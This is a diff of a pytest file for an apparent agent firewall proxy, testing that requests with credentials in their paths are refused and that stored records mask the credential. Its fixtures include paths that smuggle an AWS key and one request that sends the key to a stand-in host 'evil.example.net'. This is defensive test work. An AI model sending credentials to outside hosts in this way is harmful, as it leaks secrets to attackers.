@@ -128,9 +128,8 @@ def test_neither_the_record_nor_the_refusal_holds_a_secret_in_the_path(
 
 @pytest.mark.parametrize("path", [f"/x;{AWS}", f"/{GITHUB}//x", f"/{AWS}/%2F"])
 def test_a_path_refusal_never_quotes_it_where_nothing_is_scanned(plain: _World, path: str) -> None:
-    """No content rule: the path is recorded as sent (nothing says what in it is secret),
-    but the connector's refusal, in the 403 body and the record's reason, names the
-    character, not the path."""
+    """No content rule: the connector's refusal, in the 403 body and the record's reason,
+    names the character, not the path."""
     answer, record = plain.get("api.example.org", path)
     assert answer.startswith(b"HTTP/1.1 403"), answer[:200]
     reason = json.loads(answer.partition(b"\r\n\r\n")[2])["reason"]
@@ -172,7 +171,12 @@ def test_a_path_the_kill_switch_refuses_is_recorded_masked(tmp_path: Path) -> No
     assert "[REDACTED:" in str(record["path"])
 
 
-def test_without_content_rules_a_refused_path_is_recorded_as_sent(plain: _World) -> None:
-    """Nothing is scanned where no rule reads content (what is secret in it is not known)."""
+def test_without_content_rules_a_refused_path_is_stored_masked(plain: _World) -> None:
+    """No content rule reads the request, yet a credential in its path is never recorded:
+    the control plane masks every record before it stores it
+    (``agentfirewall_server.routes.trafficrows.masked_record``;
+    tests/proxy/test_traffic_path_no_credential.py)."""
+    from agentfirewall_server.routes.trafficrows import masked_record
+
     _, record = plain.get("evil.example.net", f"/files/{AWS}/read")
-    assert record["path"] == f"/files/{AWS}/read"
+    assert masked_record(record)["path"] == "/files/[REDACTED:aws_access_key]/read"
